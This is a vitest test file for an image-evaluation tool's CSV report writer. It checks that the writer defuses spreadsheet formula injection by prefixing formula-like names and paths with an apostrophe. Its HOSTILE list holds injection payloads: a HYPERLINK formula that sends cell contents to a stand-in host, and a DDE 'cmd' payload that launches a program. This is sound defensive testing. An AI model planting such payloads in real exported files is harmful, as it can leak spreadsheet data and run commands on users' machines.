/**
 * Hostile input: image names, level folders and paths that start like a spreadsheet formula
 * (= + - @, tab, carriage return; OWASP "CSV Injection"), written into the report's CSV.
 * Fault injected: none; the eval file itself is crafted (file names are the attacker's).
 * Must hold: every such text cell starts with an apostrophe, so a spreadsheet shows it as text; numbers,
 * negative ones included, are written as plain numbers; the CSV still parses to the same columns.
 */
import { describe, expect, it } from 'vitest';
import type { ImageRow } from '../../src/engine/evaluate/eval-schema';
import { CSV_COLUMNS, evalToCsv, neutralizeFormula } from '../../src/engine/report/csv';
import { minimalEval } from '../integration/eval-support';

function row(name: string, level: string, blurred: string, model: number, identity: number): ImageRow {
  return {
    name,
    level,
    kernel: null,
    sigma: null,
    width: 8,
    height: 8,
    blurred,
    sharp: '/data/sharp/x.png',
    model: { psnr: model, ssim: 0.5 },
    identity: { psnr: identity, ssim: 0.5 },
    wiener: null,
    ms: 1,
    blur: null,
  };
}

/** Minimal RFC 4180 reader: enough to check the cells as a spreadsheet would get them. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let cell = '';
  let row: string[] = [];
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  return rows;
}

const HOSTILE = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=cmd|\' /C calc\'!A0'];

describe('CSV formula injection', () => {
  it('prefixes every formula-like text cell with an apostrophe and leaves other text alone', () => {
    for (const h of HOSTILE) expect(neutralizeFormula(h)).toBe(`'${h}`);
    for (const ok of ['alpha', 'blur_k7', '/data/a.png', ' =x', "'already"]) expect(neutralizeFormula(ok)).toBe(ok);
  });

  it('writes hostile names, levels and paths as text cells, and negative numbers as numbers', () => {
    const rows = HOSTILE.map((h, i) => row(h, `-level${i}`, `@/path/${i}.png`, 20, 25.5)); // a gain of −5.5 dB
    const parsed = parseCsv(evalToCsv(minimalEval(rows)));
    expect(parsed[0]).toEqual([...CSV_COLUMNS]);
    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    parsed.slice(1).forEach((cells, i) => {
      expect(cells).toHaveLength(CSV_COLUMNS.length);
      expect(cells[col('name')]).toBe(`'${HOSTILE[i]}`);
      expect(cells[col('level')]).toBe(`'-level${i}`);
      expect(cells[col('blurred_path')]).toBe(`'@/path/${i}.png`);
      expect(cells[col('gain_over_identity_db')]).toBe('-5.5');
    });
  });

});
